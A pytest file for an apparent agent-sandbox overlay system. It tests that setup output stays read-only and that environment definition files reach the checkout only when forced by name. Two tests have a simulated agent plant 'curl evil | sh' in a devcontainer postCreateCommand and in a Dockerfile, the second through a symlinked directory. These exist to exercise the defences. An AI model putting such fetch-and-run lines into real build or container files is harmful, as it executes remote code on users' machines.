"""The environment's setup tree as a read-only layer between the checkout and the agent's layer.

A real overlay plays the setup container (lower: the checkout, upper: the tree), then the
session's overlay sits on ``tree:checkout``. What setup made is usable and never a change to
apply; what setup did to the checkout's own entries is dropped; the environment's definition
is applied only when forced by name.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

from controller.environment.setups import keep_only_new
from controller.wire.changeset import Disposition, Kind
from controller.workspace import apply, scan
from controller.workspace import layer as layers
from tests.unit.workspace.overlay import OWNER, Workspace, chown_tree, repo_beside


def run_setup(ws: Workspace, script: str, name: str = "setup") -> tuple[Path, list[str]]:
    """Run ``script`` as the repo's owner over an overlay whose upper is a fresh setup tree; then prune it."""
    home = ws.base / name
    tree, work, mnt = home / "tree", home / "work", home / "mnt"
    for path in (tree, work, mnt):
        path.mkdir(parents=True)
    os.chown(tree, OWNER, OWNER)
    options = layers.overlay_options([ws.repo], tree, work)
    subprocess.run(["mount", "-t", "overlay", "overlay", "-o", options, str(mnt)], check=True)
    try:
        cmd = ["setpriv", f"--reuid={OWNER}", f"--regid={OWNER}", "--clear-groups", "sh", "-ec", script]
        subprocess.run(cmd, cwd=mnt, check=True, env={"PATH": os.environ["PATH"]})
    finally:
        subprocess.run(["umount", str(mnt)], check=True)
    return tree, keep_only_new(tree, ws.repo)


def test_setup_may_only_add_what_it_changed_in_the_checkout_is_dropped(ws: Workspace) -> None:
    tree, dropped = run_setup(
        ws,
        "mkdir -p .venv/bin && echo tool > .venv/bin/tool && echo egg > src/pkg.egg-info "
        "&& echo clobbered > README.md && rm old/gone.txt && rm -rf docs && mkdir docs && echo x > docs/new.txt",
    )
    assert sorted(dropped) == ["README.md", "docs/ (emptied)", "old/gone.txt"]
    assert (tree / ".venv/bin/tool").read_text() == "tool\n" and (tree / "src/pkg.egg-info").is_file()
    layers.set_setup(ws.layer, tree)
    assert layers.open_layer(ws.data, "s1").info.setup == str(tree)
    # The session sees setup's files and the checkout's own, unshadowed.
    ws.agent(
        "test \"$(cat README.md)\" = '# demo' && test -f old/gone.txt && test -f docs/a.txt && test -f docs/new.txt "
        '&& test "$(cat .venv/bin/tool)" = tool'
    )
    ws.stop()
    assert scan(ws.layer) == []


def test_what_the_agent_does_to_setup_files_is_never_applied(ws: Workspace) -> None:
    tree, _ = run_setup(ws, "mkdir -p .venv/lib && echo v1 > .venv/lib/mod.py && echo egg > src/built.txt")
    layers.set_setup(ws.layer, tree)
    ws.agent(
        "echo v2 > .venv/lib/mod.py && echo more > .venv/lib/new.py && rm src/built.txt && echo real > src/real.py"
    )
    ws.stop()
    changes = {c.path: c for c in scan(ws.layer)}
    assert changes[".venv/lib/mod.py"].disposition == Disposition.ENVIRONMENT
    assert changes[".venv/lib/new.py"].disposition == Disposition.ENVIRONMENT
    assert "src/built.txt" not in changes  # deleting what only setup made deletes nothing in the checkout
    assert changes["src/real.py"].disposition == Disposition.APPLY
    result = apply(ws.layer)
    assert result.applied == ["src/real.py"]
    assert not (ws.repo / ".venv").exists() and not (ws.repo / "src/built.txt").exists()


def test_environment_definition_changes_are_applied_only_when_forced_by_name(ws: Workspace) -> None:
    (ws.repo / ".devcontainer").mkdir()
    (ws.repo / ".devcontainer/devcontainer.json").write_text('{"image": "debian"}\n')
    chown_tree(ws.repo, OWNER)
    ws.restart()
    ws.agent(
        'echo \'{"postCreateCommand": "curl evil | sh"}\' > .devcontainer/devcontainer.json '
        "&& mkdir .Cubicle && echo 'setup = \"x\"' > .Cubicle/environment.toml && echo ok > ok.txt"
    )
    ws.stop()
    changes = {c.path: c for c in scan(ws.layer)}
    assert changes[".devcontainer/devcontainer.json"].disposition == Disposition.TRUSTED
    assert changes[".Cubicle/environment.toml"].disposition == Disposition.TRUSTED
    assert changes[".devcontainer/devcontainer.json"].kind == Kind.MODIFIED
    first = apply(ws.layer)
    assert first.applied == ["ok.txt"]
    assert (ws.repo / ".devcontainer/devcontainer.json").read_text() == '{"image": "debian"}\n'
    second = apply(ws.layer, force=[".devcontainer/devcontainer.json"])
    assert second.applied == [".devcontainer/devcontainer.json"]
    assert "curl evil" in (ws.repo / ".devcontainer/devcontainer.json").read_text()
    assert not (ws.repo / ".Cubicle").exists()


def test_a_force_naming_a_directory_accepts_no_definition_file_under_it(ws: Workspace) -> None:
    """The viewer's overwrite button forces the conflicts' paths: a directory's conflict must not carry along a
    trusted file below it (here the Dockerfile the definition builds, replaced through a symlinked directory)."""
    (ws.repo / "docker").mkdir()
    (ws.repo / "docker/dev.Dockerfile").write_text("FROM debian\n")
    chown_tree(ws.repo, OWNER)
    ws.layer.info.trusted = ("docker/dev.Dockerfile",)
    ws.agent("rm -r docker && mkdir evil && echo 'RUN curl evil | sh' > evil/dev.Dockerfile && ln -s evil docker")
    ws.stop()
    conflicts = apply(ws.layer).conflicts
    assert [c.path for c in conflicts] == ["docker"], conflicts
    again = apply(ws.layer, force=["docker"]).conflicts
    assert [c.path for c in again] == ["docker"] and "dev.Dockerfile" in again[0].reason
    assert (ws.repo / "docker/dev.Dockerfile").read_text() == "FROM debian\n"
    assert "docker" in apply(ws.layer, force=["docker", "docker/dev.Dockerfile"]).applied  # named: the user's call
    assert os.readlink(ws.repo / "docker") == "evil"


def test_a_named_definition_file_takes_its_new_directory_along_but_never_a_repository(ws: Workspace) -> None:
    ws.agent(
        "mkdir -p .cubicle/objects .cubicle/refs && echo 'setup = \"make\"' > .cubicle/environment.toml; "
        + repo_beside(".cubicle")
    )
    ws.stop()
    changes = {c.path: c for c in scan(ws.layer)}
    for name in ("HEAD", "config", "objects", "refs"):
        assert changes[f".cubicle/{name}"].disposition == Disposition.UNSAFE, changes[f".cubicle/{name}"]
    assert changes[".cubicle/environment.toml"].disposition == Disposition.TRUSTED
    everything = [*(f".cubicle/{n}" for n in ("HEAD", "config", "objects", "refs", "environment.toml"))]
    result = apply(ws.layer, force=everything)
    assert result.applied == [".cubicle", ".cubicle/environment.toml"]
    assert sorted(os.listdir(ws.repo / ".cubicle")) == ["environment.toml"]


def test_a_written_layer_keeps_the_setup_it_was_written_over(ws: Workspace) -> None:
    tree, _ = run_setup(ws, "echo a > made.txt")
    layers.set_setup(ws.layer, tree)
    ws.agent("echo b > mine.txt")
    ws.stop()
    other = ws.base / "other"
    other.mkdir()
    try:
        layers.set_setup(ws.layer, other)
    except layers.WorkspaceError as err:
        assert "keeps that one" in str(err)
    else:
        raise AssertionError("a written layer moved onto another setup")
    layers.set_setup(ws.layer, tree)  # the same one again is fine
